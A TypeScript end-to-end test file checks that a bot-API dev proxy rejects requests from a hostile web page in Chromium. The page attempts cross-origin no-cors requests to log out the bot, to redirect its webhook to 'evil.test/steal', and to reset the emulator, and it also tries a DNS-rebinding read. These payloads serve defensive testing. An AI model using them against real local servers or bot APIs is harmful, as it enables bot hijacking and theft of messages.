/**
 * `bot dev`'s api proxy (in front of a real emulator, whose default token is public) against a web
 * page in a real browser (Debian's chromium via playwright-core). A page on another origin that
 * found the proxy's port tries what the issue reproduced: `logOut` the emulated bot by a no-cors
 * POST, point its webhook somewhere with `setWebhook?url=…` by GET, reset the emulator through the
 * proxy with a text/plain POST, and read the bot's calls through a DNS-rebound name (evil.test
 * resolved to 127.0.0.1 by chromium's host resolver rules). Each is refused; the emulator keeps its
 * bot, its webhook and its queue.
 */
import http from 'node:http'
import type {AddressInfo} from 'node:net'
import type {Browser} from 'playwright-core'
import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, it} from 'vitest'

import {BotApiEmulator} from '../../src/emulator/index.js'
import {startApiProxy, type ApiProxy} from '../../src/inspector/proxy/api-proxy.js'
import {browserSkipReason, launchChromium} from '../support/browser.js'

const skip = browserSkipReason()
if (skip) console.warn(`test/inspector/hostile-proxy-browser.e2e.test.ts skipped: ${skip}`)

describe.skipIf(skip !== undefined)('the api proxy against a hostile page in chromium', () => {
  let browser: Browser
  let emu: BotApiEmulator
  let token: string
  let proxy: ApiProxy
  let evil: http.Server
  let evilPort: number
  let methods: string[]

  beforeAll(async () => {
    browser = await launchChromium(['--host-resolver-rules=MAP evil.test 127.0.0.1'])
  })

  afterAll(async () => {
    await browser?.close()
  })

  beforeEach(async () => {
    emu = await BotApiEmulator.start()
    token = emu.createBot({username: 'victim_bot'}).token
    methods = []
    proxy = await startApiProxy({upstream: emu.apiRoot, onCall: (c) => methods.push(c.method)})
    const base = `http://127.0.0.1:${proxy.port}`
    // The attacker's page: it knows the proxy's port and the (public) token, and sends what a page can send without a preflight.
    const attacks = [
      [`${base}/bot${token}/logOut`, {method: 'POST', mode: 'no-cors'}],
      [`${base}/bot${token}/setWebhook?url=${encodeURIComponent('http://evil.test:1/steal')}`, {mode: 'no-cors'}],
      [
        `${base}/_emulator/reset`,
        {method: 'POST', mode: 'no-cors', headers: {'content-type': 'text/plain'}, body: '{}'},
      ],
    ]
    evil = http.createServer((_req, res) => {
      res.writeHead(200, {'content-type': 'text/html'})
      res.end(
        `<script>window.done = Promise.all(${JSON.stringify(attacks)}.map(([url, init]) => fetch(url, init).then(() => 'sent', (e) => 'failed: ' + e.message)))</script>`,
      )
    })
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r))
    evilPort = (evil.address() as AddressInfo).port
  })

  afterEach(async () => {
    await proxy?.close()
    await new Promise<void>((r) => evil.close(() => r()))
    await emu?.stop()
  })

  async function untouched(): Promise<void> {
    // Nothing reached the emulator through the proxy...
    expect(methods).toEqual([])
    // ...the bot is not logged out, its webhook is not set, and the queue was not reset.
    const me = (await (await fetch(`${emu.apiRoot}/bot${token}/getMe`)).json()) as {ok: boolean}
    expect(me.ok).toBe(true)
    const info = (await (await fetch(`${emu.apiRoot}/bot${token}/getWebhookInfo`)).json()) as {result: {url: string}}
    expect(info.result.url).toBe('')
    const updates = (await (await fetch(`${emu.apiRoot}/bot${token}/getUpdates`)).json()) as {result: unknown[]}
    expect(JSON.stringify(updates.result)).toContain('queued before the attack')
  }

  for (const origin of ['127.0.0.1', 'evil.test']) {
    it(`a page on ${origin} (another origin) cannot logOut the bot, set its webhook or reset the emulator through the proxy`, async () => {
      emu.sendUserMessage(token, {text: 'queued before the attack'})
      const page = await browser.newPage()
      try {
        await page.goto(`http://${origin}:${evilPort}/`)
        // The answers are unreadable to the page either way (no CORS): what counts is what happened.
        const done = (await page.evaluate('window.done')) as string[]
        expect(done).toHaveLength(3)
        await untouched()
      } finally {
        await page.close()
      }
    })
  }

  it('a DNS-rebound name gets 403 and nothing of the bot, for a navigation and a same-origin fetch', async () => {
    emu.sendUserMessage(token, {text: 'queued before the attack'})
    const page = await browser.newPage()
    try {
      const answer = await page.goto(`http://evil.test:${proxy.port}/bot${token}/getWebhookInfo`)
      expect(answer?.status()).toBe(403)
      expect(await page.content()).not.toContain('"result"')
      // Now "same-origin" for the page: it may read what it gets, and it gets 403.
      const read = (await page.evaluate(
        `fetch('/bot${token}/logOut', {method: 'POST'}).then(async (r) => r.status + ' ' + (await r.text()))`,
      )) as string
      expect(read).toMatch(/^403 /)
      expect(read).not.toContain('"result"')
      await untouched()
    } finally {
      await page.close()
    }
  })
})
